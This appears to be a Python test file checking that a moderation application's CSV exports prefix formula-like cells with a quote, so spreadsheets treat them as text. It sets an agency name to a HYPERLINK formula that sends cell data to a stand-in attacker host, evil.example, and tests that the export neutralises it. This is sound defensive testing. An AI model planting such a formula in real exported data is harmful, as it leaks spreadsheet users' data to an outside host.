"""Rule 16: no cell of a CSV the application writes is read by a spreadsheet as a formula."""

import csv
import io

from moderation.models import Agency, Dispute, LearningTheme
from moderation.web.csv_safe import csv_text, neutralise
from tests.conftest import post, url

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True)))
            for cell in row]


def _rename_agency(client, app, db, dispute_id):
    """An agency manager renames the dispute's referring agency, through the admin page."""
    with app.app_context():
        agency = db.session.get(Dispute, dispute_id).referring_agency
        agency_id, kind = agency.id, agency.kind
    response = post(client, url(app, "admin.agency_edit", agency_id=agency_id),
                    {"name": FORMULA, "kind": kind})
    assert response.status_code == 302
    with app.app_context():
        assert db.session.get(Agency, agency_id).name == FORMULA


def test_a_formula_in_an_agency_name_comes_out_of_the_queue_as_text(
        app, db, client, signed_in, queue_disputes):
    [dispute_id] = queue_disputes({})
    signed_in("chair", "partnership_manager")
    _rename_agency(client, app, db, dispute_id)
    cells = _cells(client.get(url(client, "disputes.panel_queue_csv")))
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_formulas_in_agency_and_theme_names_come_out_of_the_export_as_text(
        app, db, client, signed_in, history):
    signed_in("partnership_manager")
    _rename_agency(client, app, db, history.dispute_ids[0])
    with app.app_context():
        # Every decision in the history is given threshold interpretation.
        theme = db.session.query(LearningTheme).filter_by(name="Threshold interpretation").one()
        theme.name = "+SUM(1+1)"
        db.session.commit()
    cells = _cells(client.get(url(client, "outcomes.export", start="2026-11-01", end="2026-12-31")))
    assert cells.count(f"'{FORMULA}") == 3  # the three decided disputes' referring agency
    assert [cell for cell in cells if "SUM(1+1)" in cell]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_each_cell_that_starts_like_a_formula_is_prefixed_with_a_quote():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralise(text) == f"'{text}"
    for text in ("Northshire Health", "2026-11", "a=b", " =1", "", "'quoted"):
        assert neutralise(text) == text


def test_numbers_and_blanks_are_written_as_text_under_the_same_rule():
    # OWASP: prefix every such cell. A negative number is shown as text, never run.
    assert (neutralise(-3), neutralise(4), neutralise(1.5), neutralise(None)) == (
        "'-3", "4", "1.5", "")


def test_every_cell_is_quoted_so_no_separator_inside_one_starts_another():
    text = csv_text(["name", "themes"], [["A;=1+1", "-2"]])
    assert text.splitlines() == ['"name","themes"', '"A;=1+1","\'-2"']
    assert list(csv.reader(io.StringIO(text))) == [["name", "themes"], ["A;=1+1", "'-2"]]
